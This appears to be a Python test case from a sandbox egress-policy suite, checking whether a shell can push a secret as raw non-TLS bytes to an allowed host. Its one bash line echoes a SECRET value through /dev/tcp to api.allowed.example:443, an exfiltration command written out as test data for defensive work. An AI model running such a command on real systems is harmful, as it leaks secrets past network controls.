# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a shell's /dev/tcp connects to an allowed name, and its echo sends bytes that are not TLS
# proof: word
# needs: resolver
import subprocess

from attack import SECRET, at_allowed, attempt


def say(place):
    subprocess.run(
        ["/bin/bash", "-c", "echo " + SECRET + " >/dev/tcp/api.allowed.example/443"],
        stderr=subprocess.DEVNULL,
    )


@attempt
def send():
    return at_allowed(say, first=False)
